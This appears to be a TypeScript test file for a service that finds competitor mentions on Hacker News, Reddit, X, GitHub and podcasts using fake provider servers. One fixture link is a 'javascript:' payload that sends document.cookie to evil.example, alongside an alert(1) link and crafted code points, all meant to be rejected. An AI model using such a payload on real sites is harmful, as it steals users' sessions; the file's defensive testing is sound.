/**
 * The firehose (docs/product-rules.md#firehose) against the six search APIs as fake servers speaking their wire
 * formats (test/fakes/firehose.ts): what a run asks each provider, which posts become events (whole-word mentions
 * in the window, once each), what a missing credential or a failing source does, the scheduler's cadence slots, the
 * admin view and the `firehose-run` command. ROLE=api: no worker picks the queued jobs, so the tests count them.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runAdminCommand, UsageError } from "../../src/cli/admin.js";
import { FirehoseSchedule } from "../../src/firehose/monitors.js";
import { QUEUES } from "../../src/jobs/queues.js";
import { FakeFirehose } from "../fakes/firehose.js";
import { createCompetitor, createWorkspace, type TestMember } from "../setup/factories.js";
import { pendingJobs } from "../setup/jobs.js";
import { startTestApp, type TestApp } from "../setup/test-app.js";

let app: TestApp;
let fake: FakeFirehose;
let admin: TestMember;
beforeAll(async () => {
  fake = await new FakeFirehose().start();
  // YouTube has no key in this deployment: it must show -1 and never be asked.
  app = await startTestApp({ ROLE: "api", ...fake.env({ withoutTokens: ["youtube"] }) });
  admin = await createWorkspace(app, { isAdmin: true, name: "Vendor ops" });
});
afterAll(async () => {
  await app?.stop();
  await fake?.stop();
});

const knex = () => app.service.services.knex;
const run = (workspaceId: string) => runAdminCommand(["firehose-run", workspaceId], app.service.services) as any;
const hoursAgo = (hours: number) => new Date(Date.now() - hours * 3_600_000);

/** A Growth workspace tracking a competitor with a unique name (the fake's posts are shared by the file's tests). */
async function watching(name: string, options: { aliases?: string[] } = {}) {
  const owner = await createWorkspace(app, { plan: "growth", name: `${name} watchers` });
  const competitor = await createCompetitor(app, owner, { name, domain: `${name.toLowerCase()}.io` });
  if (options.aliases) {
    await knex()("competitors")
      .where({ id: competitor.id })
      .update({ aliases: JSON.stringify(options.aliases) });
  }
  return { owner, competitor };
}

async function narrativeEvents(owner: TestMember) {
  const res = await app.http.get("/events?event_type=narrative_change&limit=200").set("Authorization", owner.bearer);
  expect(res.status).toBe(200);
  return res.body as any[];
}

describe("a run", () => {
  it("asks every configured source in its own wire format and makes one event per whole-word mention in the window", async () => {
    const { owner, competitor } = await watching("Zentrik", { aliases: ["ZentrikHQ"] });
    fake.add("hn", {
      id: "9001",
      title: "Show HN: Zentrik 2.0",
      text: "",
      postedAt: hoursAgo(2),
      score: 150,
      comments: 40,
    });
    // Substring but not the word: the engine matched it loosely, the run must not.
    fake.add("hn", { id: "9002", title: "Zentrikville county fair", text: "", postedAt: hoursAgo(2), score: 900 });
    fake.add("reddit", {
      id: "r1",
      title: "Which tool for competitor tracking?",
      text: "We moved to zentrik.io last month and like it",
      postedAt: hoursAgo(3),
      score: 30,
      comments: 12,
    });
    // Reddit has no "since": a post older than the window is the run's to drop.
    fake.add("reddit", { id: "r0", title: "Zentrik in 2024", text: "", postedAt: hoursAgo(72), score: 5000 });
    fake.add("x", {
      id: "1860000000000000001",
      title: "",
      text: "ZentrikHQ just shipped SSO",
      postedAt: hoursAgo(1),
      score: 700,
    });
    fake.add("youtube", { id: "vid1", title: "Zentrik review", text: "", postedAt: hoursAgo(1) });
    fake.add("github", {
      id: "555",
      title: "Zentrik SDK crashes on start",
      text: "",
      postedAt: hoursAgo(4),
      comments: 2,
    });
    fake.add("podcast", { id: "777", title: "Founders of Zentrik", text: "An interview", postedAt: hoursAgo(5) });

    const result = await run(owner.workspaceId);
    expect(result.sources).toEqual({
      hn: { found: 1, created: 1, error: null },
      reddit: { found: 1, created: 1, error: null },
      x: { found: 1, created: 1, error: null },
      youtube: { found: -1, created: 0, error: null },
      github: { found: 1, created: 1, error: null },
      podcast: { found: 1, created: 1, error: null },
    });
    expect(result.events_created).toBe(5);

    const asked = fake.requests.filter((r) => r.query.toString().toLowerCase().includes("zentrik"));
    expect(asked.some((r) => r.source === "youtube")).toBe(false);
    // HN (no OR in Algolia's query): one request per term.
    expect(asked.filter((r) => r.source === "hn").map((r) => r.query.get("query"))).toEqual([
      "Zentrik",
      "ZentrikHQ",
      "zentrik.io",
    ]);
    const x = asked.find((r) => r.source === "x")!;
    expect(x.query.get("query")).toBe('("Zentrik" OR "ZentrikHQ" OR "zentrik.io") -is:retweet');
    expect(x.headers.authorization).toBe("Bearer x-bearer");
    expect(asked.find((r) => r.source === "reddit")!.headers.authorization).toBe("Bearer reddit-token");
    expect(asked.find((r) => r.source === "github")!.query.get("q")).toMatch(/^"Zentrik" OR .* created:>=\d{4}-/);

    const events = await narrativeEvents(owner);
    expect(events).toHaveLength(5);
    const hn = events.find((e) => e.title.includes("Hacker News"));
    expect(hn).toMatchObject({
      competitor_id: competitor.id,
      event_type: "narrative_change",
      severity: "medium",
      title: 'Zentrik mentioned on Hacker News: "Show HN: Zentrik 2.0"',
      tags_json: ["firehose", "hn", "social"],
      is_inferred: false,
      confidence_score: 0.9,
    });
    expect(events.find((e) => e.tags_json.includes("x")).severity).toBe("high");
    expect(events.find((e) => e.tags_json.includes("podcast")).tags_json).toEqual(["firehose", "podcast", "news"]);

    const detail = await app.http.get(`/events/${hn.id}`).set("Authorization", owner.bearer).expect(200);
    expect(detail.body.evidence).toEqual([
      expect.objectContaining({
        evidence_type: "mention",
        source_url: "https://news.ycombinator.com/item?id=9001",
        metadata_json: expect.objectContaining({ source: "hn", engagement: 190 }),
      }),
    ]);
    // Each event is handed to delivery like a detected one.
    for (const event of events) {
      expect(await pendingJobs(knex(), QUEUES.eventCreated, { event_id: event.id })).toBe(1);
    }

    // Again: the same posts are found and none makes a second event.
    const again = await run(owner.workspaceId);
    expect(again.events_created).toBe(0);
    expect(await narrativeEvents(owner)).toHaveLength(5);
  });

  it("keeps going when a source fails, records the failure, and searches that window again next time", async () => {
    const { owner } = await watching("Quorvex");
    fake.add("hn", { id: "9101", title: "Quorvex raises a seed round", text: "", postedAt: hoursAgo(1) });
    fake.add("github", { id: "9102", title: "Quorvex integration", text: "", postedAt: hoursAgo(1) });
    fake.fail("github", 503);
    try {
      const failed = await run(owner.workspaceId);
      expect(failed.sources.hn).toEqual({ found: 1, created: 1, error: null });
      expect(failed.sources.github).toEqual({ found: 0, created: 0, error: "GitHub answered HTTP 503" });
      const monitor = await knex()("firehose_monitors").where({ workspace_id: owner.workspaceId }).first();
      expect(monitor).toMatchObject({
        consecutive_failures: 1,
        last_error: "GitHub answered HTTP 503",
        searched_until: null,
      });
    } finally {
      fake.clearFailure("github");
    }
    const recovered = await run(owner.workspaceId);
    expect(recovered.sources.github).toEqual({ found: 1, created: 1, error: null });
    expect(recovered.sources.hn.created).toBe(0);
    const monitor = await knex()("firehose_monitors").where({ workspace_id: owner.workspaceId }).first();
    expect(monitor).toMatchObject({ consecutive_failures: 0, last_error: null });
    expect(monitor.searched_until).not.toBeNull();
  });

  it("names refused credentials and rate limits in the error", async () => {
    const { owner } = await watching("Plexari");
    fake.fail("reddit", 401);
    fake.fail("x", 429);
    try {
      const result = await run(owner.workspaceId);
      expect(result.sources.reddit.error).toBe("Reddit refused the credentials (HTTP 401)");
      expect(result.sources.x.error).toBe("X rate-limited the search (HTTP 429)");
    } finally {
      fake.clearFailure("reddit");
      fake.clearFailure("x");
    }
  });
});

describe("firehose-run", () => {
  it("refuses a plan without realtime, a malformed id and an unknown workspace with one-line errors", async () => {
    const free = await createWorkspace(app, { plan: "starter" });
    await expect(run(free.workspaceId)).rejects.toThrow(/starter plan: the firehose needs realtime/);
    await expect(run("nope")).rejects.toThrow(UsageError);
    await expect(run("00000000-0000-4000-8000-000000000000")).rejects.toThrow(/no workspace/);
  });
});

describe("the schedule", () => {
  it("queues each enabled monitor once per cadence slot, at the partner social/news monitor's cadence when one is registered", async () => {
    const hourly = await watching("Slotly");
    const daily = await watching("Daylic");
    const disabled = await watching("Offara");
    await knex()("partner_monitors").insert([
      {
        workspace_id: daily.owner.workspaceId,
        monitor_type: "social",
        label: "Social",
        cadence: "daily",
        enabled: true,
      },
      {
        workspace_id: disabled.owner.workspaceId,
        monitor_type: "news",
        label: "News",
        cadence: "hourly",
        enabled: false,
      },
    ]);
    const schedule = new FirehoseSchedule({ knex: knex(), jobs: app.service.services.jobs });
    const queued = (workspaceId: string) => pendingJobs(knex(), QUEUES.firehoseRun, { workspace_id: workspaceId });

    const t0 = new Date("2031-05-05T10:15:00Z");
    await schedule.enqueueDue(t0);
    await schedule.enqueueDue(new Date("2031-05-05T10:45:00Z"));
    expect(await queued(hourly.owner.workspaceId)).toBe(1);
    expect(await queued(daily.owner.workspaceId)).toBe(1);
    expect(await queued(disabled.owner.workspaceId)).toBe(0);

    await schedule.enqueueDue(new Date("2031-05-05T11:00:00Z"));
    expect(await queued(hourly.owner.workspaceId)).toBe(2);
    expect(await queued(daily.owner.workspaceId)).toBe(1);
    await schedule.enqueueDue(new Date("2031-05-06T00:00:00Z"));
    expect(await queued(daily.owner.workspaceId)).toBe(2);
  });
});

describe("what a post may carry", () => {
  it("stores only http(s) links: a post whose link has another scheme, or leaves the provider's site, makes no event", async () => {
    const { owner } = await watching("Schemely");
    fake.add("github", {
      id: "6001",
      title: "Schemely breaks",
      text: "",
      postedAt: hoursAgo(1),
      link: "javascript:fetch('https://evil.example/'+document.cookie)",
    });
    fake.add("github", { id: "6002", title: "Schemely fixed", text: "", postedAt: hoursAgo(1) });
    fake.add("podcast", {
      id: "6003",
      title: "Schemely on air",
      text: "",
      postedAt: hoursAgo(1),
      link: "JavaScript:alert(1)",
    });
    fake.add("reddit", {
      id: "r6004",
      title: "Schemely thread",
      text: "",
      postedAt: hoursAgo(1),
      permalink: "@evil.example/r/saas/comments/r6004/",
    });
    const result = await run(owner.workspaceId);
    expect(result.sources.github).toEqual({ found: 1, created: 1, error: null });
    expect(result.sources.podcast).toEqual({ found: 0, created: 0, error: null });
    expect(result.sources.reddit).toEqual({ found: 0, created: 0, error: null });
    const events = await narrativeEvents(owner);
    expect(events.map((e) => e.title)).toEqual(['Schemely mentioned on GitHub: "Schemely fixed"']);
    const urls = await knex()("evidence as v")
      .join("events as e", "e.id", "v.event_id")
      .where({ "e.workspace_id": owner.workspaceId })
      .pluck("v.source_url");
    expect(urls).toEqual(["https://github.com/acme/sdk/issues/6002"]);
  });

  it("ignores invalid code points and fails per post, not per source: one crafted post stops nothing", async () => {
    const { owner } = await watching("Codepointy");
    // Beyond U+10FFFF, in hex and in decimal: the decoder used to throw on them, failing the whole source.
    fake.add("hn", {
      id: "7001",
      title: "Codepointy &#x110000; launch",
      text: "Codepointy &#1114112; and &#xD800; too",
      postedAt: hoursAgo(1),
    });
    fake.add("github", { id: "7002", title: "Codepointy &#x110000;", text: "body &#x110000;", postedAt: hoursAgo(1) });
    // A post whose id cannot be put in a link (a lone surrogate) is dropped alone; its neighbour is kept, and a lone
    // surrogate in an author's name is stored as U+FFFD rather than failing the run's transaction.
    fake.add("hn", { id: "\ud800", title: "Codepointy broken id", text: "", postedAt: hoursAgo(1) });
    fake.add("hn", { id: "7003", title: "Codepointy author", text: "", postedAt: hoursAgo(1), author: "x\udc00y" });

    const result = await run(owner.workspaceId);
    expect(result.sources.hn).toEqual({ found: 2, created: 2, error: null });
    expect(result.sources.github).toEqual({ found: 1, created: 1, error: null });
    const titles = (await narrativeEvents(owner)).map((e) => e.title).sort();
    // GitHub titles are plain text (shown as sent); Hacker News sends HTML, decoded.
    expect(titles).toEqual([
      'Codepointy mentioned on GitHub: "Codepointy &#x110000;"',
      'Codepointy mentioned on Hacker News: "Codepointy author"',
      'Codepointy mentioned on Hacker News: "Codepointy \ufffd launch"',
    ]);
    const monitor = await knex()("firehose_monitors").where({ workspace_id: owner.workspaceId }).first();
    expect(monitor).toMatchObject({ consecutive_failures: 0, last_error: null });
  });
});

describe("workspaces without competitors", () => {
  it("get no firehose run: there is nothing to search for", async () => {
    const empty = await createWorkspace(app, { plan: "growth", name: "Nothing tracked" });
    const tracking = await watching("Trackly");
    const schedule = new FirehoseSchedule({ knex: knex(), jobs: app.service.services.jobs });
    await schedule.enqueueDue(new Date("2032-01-01T10:15:00Z"));
    expect(await pendingJobs(knex(), QUEUES.firehoseRun, { workspace_id: empty.workspaceId })).toBe(0);
    expect(await pendingJobs(knex(), QUEUES.firehoseRun, { workspace_id: tracking.owner.workspaceId })).toBe(1);
  });
});

describe("GET /admin/firehose/monitors", () => {
  it("lists every realtime workspace's monitor by name, with 24 h counts per source and -1 without credentials", async () => {
    const { owner } = await watching("Mentora");
    fake.add("hn", { id: "9201", title: "Mentora is hiring", text: "", postedAt: hoursAgo(1) });
    fake.add("reddit", { id: "r9201", title: "Mentora vs the rest", text: "", postedAt: hoursAgo(1) });
    const never = await createWorkspace(app, { plan: "enterprise", name: "Never ran" });
    const starter = await createWorkspace(app, { plan: "starter", name: "No firehose" });
    await run(owner.workspaceId);

    const res = await app.http.get("/admin/firehose/monitors").set("Authorization", admin.bearer).expect(200);
    const byId = new Map(res.body.monitors.map((m: any) => [m.workspace_id, m]));
    expect(res.body.total).toBe(res.body.monitors.length);
    const names = res.body.monitors.map((m: any) => m.workspace_name);
    expect(names).toEqual([...names].sort());
    expect(byId.has(starter.workspaceId)).toBe(false);
    expect(byId.get(never.workspaceId)).toMatchObject({
      enabled: true,
      consecutive_failures: 0,
      last_run_at: null,
      last_event_at: null,
      status_text: "never run",
      source_counts: { hn: 0, reddit: 0, x: 0, youtube: -1, github: 0, podcast: 0 },
    });
    expect(byId.get(owner.workspaceId)).toMatchObject({
      workspace_name: "Mentora watchers",
      status_text: "ok",
      last_run_at: expect.any(String),
      last_event_at: expect.any(String),
      source_counts: { hn: 1, reddit: 1, x: 0, youtube: -1, github: 0, podcast: 0 },
    });
  });

  it("is for platform admins only", async () => {
    const member = await createWorkspace(app, { plan: "enterprise" });
    await app.http.get("/admin/firehose/monitors").set("Authorization", member.bearer).expect(403);
    await app.http.get("/admin/firehose/monitors").expect(401);
  });
});
